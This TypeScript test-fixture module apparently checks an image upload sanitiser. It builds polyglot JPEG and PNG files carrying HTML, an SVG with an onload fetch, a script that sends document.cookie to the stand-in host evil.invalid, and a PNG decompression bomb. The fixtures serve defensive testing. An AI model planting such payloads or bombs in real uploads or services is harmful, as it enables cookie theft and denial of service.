import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import sharp from 'sharp';

const HTML = Buffer.from('<html><script>fetch("https://evil.invalid/"+document.cookie)</script></html>');
const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** A text that no re-encoded picture may hold. */
export const PAYLOAD = 'evil.invalid';

function word32(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}

function pngChunk(type: string, data: Uint8Array): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  return Buffer.concat([word32(data.length), body, word32(crc32(body))]);
}

/** A PNG of one bit per pixel, of any size, with its pixels given compressed. */
function bitPng(width: number, height: number, compressed: Uint8Array): Buffer {
  const head = Buffer.concat([word32(width), word32(height), Buffer.from([1, 0, 0, 0, 0])]);
  const chunks = [pngChunk('IHDR', head), pngChunk('IDAT', compressed), pngChunk('IEND', new Uint8Array())];
  return Buffer.concat([PNG_SIGNATURE, ...chunks]);
}

/** The given number of zeros in zlib format, without ever holding them in memory. */
function zeros(count: number): Buffer {
  const piece = 1_000_000;
  // Any block may follow a flushed one, so one block is made and repeated.
  const flushed = deflateRawSync(Buffer.alloc(piece), { finishFlush: 2 });
  const last = deflateRawSync(Buffer.alloc(count % piece));
  const sum = word32((((count % 65_521) << 16) | 1) >>> 0);
  const whole = Array.from({ length: Math.floor(count / piece) }, () => flushed);
  return Buffer.concat([Buffer.from([0x78, 0x9c]), ...whole, last, sum]);
}

/** A whole and valid picture of 50,000 by 50,000 pixels: 300 kB that would become 10 GB. */
export function bomb(): Buffer {
  const side = 50_000;
  return bitPng(side, side, zeros((side / 8 + 1) * side));
}

/** A valid but empty PNG of a given size. */
export function blankPng(width: number, height: number): Buffer {
  return bitPng(width, height, deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * height)));
}

function canvas(width: number, height: number) {
  return sharp({ create: { width, height, channels: 3, background: { r: 90, g: 60, b: 210 } } });
}

/** A picture as a program writes it. */
export function plainPicture(type: 'jpeg' | 'png', width = 60, height = 40): Promise<Buffer> {
  return canvas(width, height).toFormat(type).toBuffer();
}

/** A photo with its place, its camera and its orientation: it needs a quarter turn. */
export function photo(): Promise<Buffer> {
  const place = {
    GPSLatitudeRef: 'N',
    GPSLatitude: '35/1 40/1 30/1',
    GPSLongitudeRef: 'E',
    GPSLongitude: '139/1 45/1 0/1',
  };
  return canvas(60, 40)
    .jpeg()
    .withMetadata({ orientation: 6, exif: { IFD0: { Make: PAYLOAD }, IFD3: place } })
    .toBuffer();
}

/** A JPEG with a segment right after its start. */
function withSegment(jpeg: Buffer, marker: number, data: Buffer): Buffer {
  const length = Buffer.alloc(2);
  length.writeUInt16BE(data.length + 2);
  return Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, marker]), length, data, jpeg.subarray(2)]);
}

/** A PNG with a chunk right after its header. */
function withChunk(png: Buffer, type: string, data: Buffer): Buffer {
  return Buffer.concat([png.subarray(0, 33), pngChunk(type, data), png.subarray(33)]);
}

const ZIP = Buffer.concat([Buffer.from('PK\u0003\u0004'), HTML, Buffer.from('PK\u0005\u0006'), Buffer.alloc(18)]);

/** Files that are pictures and something else too: accepted, but only as pictures. */
export async function polyglots(): Promise<Readonly<Record<string, Buffer>>> {
  const [jpeg, png] = await Promise.all([plainPicture('jpeg'), plainPicture('png')]);
  return {
    'JPEG that continues as HTML': Buffer.concat([jpeg, HTML]),
    'JPEG with HTML in a comment': withSegment(jpeg, 0xfe, HTML),
    'JPEG with HTML in its metadata': withSegment(jpeg, 0xe1, Buffer.concat([Buffer.from('Exif\0\0'), HTML])),
    'JPEG with a colour profile of HTML': withSegment(
      jpeg,
      0xe2,
      Buffer.concat([Buffer.from('ICC_PROFILE\0\u0001\u0001'), HTML]),
    ),
    'JPEG with a place in it': await photo(),
    'PNG with a ZIP at its tail': Buffer.concat([png, ZIP]),
    'PNG with a Java archive at its tail': Buffer.concat([png, ZIP, Buffer.from('META-INF/MANIFEST.MF')]),
    'PNG with HTML in a text': withChunk(png, 'tEXt', Buffer.concat([Buffer.from('Comment\0'), HTML])),
    'PNG with XML in a text': withChunk(png, 'iTXt', Buffer.concat([Buffer.from('XML:com.adobe.xmp\0\0\0\0\0'), HTML])),
    'PNG with an unknown chunk': withChunk(png, 'evIl', HTML),
  };
}

const SVG = Buffer.from(
  `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('https://evil.invalid/')"><rect/></svg>`,
);

/** A JPEG header whose two size bytes are replaced. */
function resized(jpeg: Buffer, width: number, height: number): Buffer {
  const bytes = Buffer.from(jpeg);
  const frame = bytes.indexOf(Buffer.from([0xff, 0xc0]));
  bytes.writeUInt16BE(height, frame + 5);
  bytes.writeUInt16BE(width, frame + 7);
  return bytes;
}

/** Files that are not pictures, or not of an accepted type. */
export async function refusedFiles(): Promise<
  Readonly<Record<string, { readonly file: Buffer; readonly fault: string }>>
> {
  const [jpeg, png] = await Promise.all([plainPicture('jpeg'), plainPicture('png')]);
  const [gif, webp, tiff] = await Promise.all(
    (['gif', 'webp', 'tiff'] as const).map((format) => canvas(8, 8).toFormat(format).toBuffer()),
  );
  const scan = jpeg.subarray(jpeg.indexOf(Buffer.from([0xff, 0xda])), -2);
  const format = (file: Buffer) => ({ file, fault: 'format' });
  const range = (file: Buffer) => ({ file, fault: 'range' });
  return {
    SVG: format(SVG),
    'SVG that is declared as XML': format(Buffer.concat([Buffer.from('<?xml version="1.0"?>\n'), SVG])),
    'SVG behind a byte order mark': format(Buffer.concat([Buffer.from('\uFEFF'), SVG])),
    HTML: format(HTML),
    GIF: format(gif!),
    'GIF that is also a script': format(Buffer.concat([Buffer.from('GIF89a/*'), HTML, Buffer.from('*/=1;')])),
    PDF: format(Buffer.from(`%PDF-1.7\n1 0 obj<</OpenAction<</S/URI/URI(https://${PAYLOAD})>>>>endobj\n%%EOF`)),
    WebP: format(webp!),
    TIFF: format(tiff!),
    ZIP: format(ZIP),
    'no bytes': format(Buffer.alloc(0)),
    'one byte': format(Buffer.from([0x89])),
    'signature of a PNG and nothing more': format(PNG_SIGNATURE),
    'signature of a PNG and then HTML': format(Buffer.concat([PNG_SIGNATURE, HTML])),
    'start of a JPEG and then HTML': format(Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), HTML])),
    'picture behind other bytes': format(Buffer.concat([HTML, png])),
    'truncated PNG': format(png.subarray(0, -30)),
    'truncated JPEG': format(jpeg.subarray(0, jpeg.length - 200)),
    'header of a PNG without pixels': format(png.subarray(0, 33)),
    'PNG whose pixels are noise': format(bitPng(64, 64, Buffer.from(HTML))),
    'PNG without a size': format(bitPng(0, 0, zeros(1))),
    'JPEG with a hundred scans': format(
      Buffer.concat([jpeg.subarray(0, -2), ...Array.from({ length: 100 }, () => scan)]),
    ),
    'PNG of 50,000 by 50,000': range(bomb()),
    'PNG of 12,001 by 1': range(blankPng(12_001, 1)),
    'PNG of 5,000 by 5,000': range(blankPng(5_000, 5_000)),
    'PNG of four billion by one': range(bitPng(0xff_ff_ff_ff, 1, zeros(100))),
    'JPEG that says it is 65,535 by 65,535': range(resized(jpeg, 65_535, 65_535)),
  };
}
